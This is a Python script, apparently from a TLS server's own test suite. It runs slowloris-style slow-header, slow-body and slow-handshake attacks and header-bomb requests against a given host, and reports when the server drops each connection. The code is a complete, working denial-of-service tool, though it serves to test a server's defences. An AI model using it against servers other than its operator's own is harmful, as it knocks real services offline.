"""Slow and oversized HTTP/1.1 requests over TLS, for lobe-tls's attack suite.

    slow_attack.py ATTACK --addr HOST:PORT --sni NAME [--source IP] [--conns N]
                   [--gap S] [--seconds S]

ATTACK:
- slow-headers: a request head sent one byte every GAP seconds, never finished.
- slow-body: a full head (Content-Length: 1000000) to /upload, then one body byte every
  GAP seconds.
- slow-handshake: a TLS ClientHello sent one byte every GAP seconds.
- header-bomb-many: one request with 10,000 headers.
- header-bomb-large: one request with a single 1 MiB header.

The slow attacks open CONNS connections and keep each going until the server cuts it or
SECONDS pass; they print when each was cut. Everything prints one JSON line.
"""

import argparse
import asyncio
import json
import ssl
import time


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


def client_hello(sni):
    """The bytes of a ClientHello for `sni`, as Python's TLS stack writes it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context().wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def open_conn(args, tls=True):
    """Opens a connection (with TLS: through the handshake). The attacker waits 30 s: on
    a loaded machine, 50 handshakes at once from one process can take more than 10 s,
    and the server's timers start only once a connection is open."""
    host, port = args.addr.rsplit(":", 1)
    return await asyncio.wait_for(
        asyncio.open_connection(
            host,
            int(port),
            ssl=tls_context() if tls else None,
            server_hostname=args.sni if tls else None,
            local_addr=(args.source, 0),
        ),
        30,
    )


async def trickle(args, head, payload, tls=True):
    """Sends `head` at once, then `payload` a byte per GAP; seconds until cut, or None.

    The clock starts once the connection is open (with TLS: after the handshake), where
    the server's timer for the head starts too: a handshake slowed by a loaded machine
    must not count against the server. A connection that could not be opened is neither
    cut nor held: it is counted apart (`unopened`)."""
    try:
        reader, writer = await open_conn(args, tls)
    except (OSError, asyncio.TimeoutError) as e:
        return {"cut": None, "unopened": True, "how": "connect: " + type(e).__name__}
    start = time.monotonic()
    # The reader sees the cut (EOF or reset); whatever the server answered first is kept.
    answer = bytearray()

    async def read_until_closed():
        try:
            while True:
                chunk = await reader.read(65536)
                if not chunk:
                    return "eof"
                answer.extend(chunk)
        except (OSError, ssl.SSLError) as e:
            return type(e).__name__

    closed = asyncio.ensure_future(read_until_closed())
    how = None
    try:
        if head:
            writer.write(head)
            await writer.drain()
        for i in range(len(payload)):
            if closed.done() or time.monotonic() - start > args.seconds:
                break
            writer.write(payload[i : i + 1])
            await writer.drain()
            try:
                await asyncio.wait_for(asyncio.shield(closed), args.gap)
            except asyncio.TimeoutError:
                pass
        remaining = args.seconds - (time.monotonic() - start)
        if not closed.done() and remaining > 0:
            await asyncio.wait_for(asyncio.shield(closed), remaining)
    except asyncio.TimeoutError:
        pass
    except (OSError, ssl.SSLError) as e:
        how = "write: " + type(e).__name__
    cut = time.monotonic() - start
    if closed.done():
        how = how or closed.result()
    elif how is None:
        cut = None
        closed.cancel()
    writer.transport.abort()
    first_line = bytes(answer).split(b"\r\n", 1)[0].decode("latin-1") if answer else ""
    return {"cut": cut, "how": how, "answer": first_line}


async def slow(args, head, payload, tls=True):
    results = await asyncio.gather(
        *(trickle(args, head, payload, tls) for _ in range(args.conns))
    )
    cuts = [r["cut"] for r in results if r["cut"] is not None]
    unopened = sum(1 for r in results if r.get("unopened"))
    return {
        "conns": args.conns,
        "unopened": unopened,
        "cut": len(cuts),
        "held": args.conns - unopened - len(cuts),
        "first_cut": min(cuts) if cuts else None,
        "last_cut": max(cuts) if cuts else None,
        "hows": sorted({str(r["how"]) for r in results}),
        "answers": sorted({r.get("answer", "") for r in results}),
    }


async def bomb(args, head):
    """Sends one oversized head; what came back (status line) or how it was closed."""
    start = time.monotonic()
    reader, writer = await open_conn(args)
    how = "sent"
    try:
        writer.write(head)
        await asyncio.wait_for(writer.drain(), 10)
    except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
        how = "write: " + type(e).__name__
    status = ""
    try:
        line = await asyncio.wait_for(reader.readline(), 10)
        status = line.decode("latin-1").strip()
    except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
        how += "; read: " + type(e).__name__
    writer.transport.abort()
    return {
        "head_bytes": len(head),
        "status": status,
        "how": how,
        "elapsed": time.monotonic() - start,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("--addr", required=True)
    parser.add_argument("--sni", required=True)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--conns", type=int, default=50)
    parser.add_argument("--gap", type=float, default=1.0)
    parser.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    host = f"Host: {args.sni}\r\n".encode()
    if args.attack == "slow-headers":
        payload = b"X-Slow: " + b"a" * 10000
        result = asyncio.run(slow(args, b"GET /page HTTP/1.1\r\n" + host, payload))
    elif args.attack == "slow-body":
        head = b"POST /upload HTTP/1.1\r\n" + host + b"Content-Length: 1000000\r\n\r\n"
        result = asyncio.run(slow(args, head, b"a" * 1000000))
    elif args.attack == "slow-handshake":
        result = asyncio.run(slow(args, b"", client_hello(args.sni), tls=False))
    elif args.attack == "header-bomb-many":
        headers = b"".join(b"X-H%d: v\r\n" % i for i in range(10000))
        result = asyncio.run(bomb(args, b"GET /page HTTP/1.1\r\n" + host + headers + b"\r\n"))
    elif args.attack == "header-bomb-large":
        header = b"X-Large: " + b"a" * (1 << 20) + b"\r\n"
        result = asyncio.run(bomb(args, b"GET /page HTTP/1.1\r\n" + host + header + b"\r\n"))
    else:
        raise SystemExit("unknown attack " + args.attack)
    result["attack"] = args.attack
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
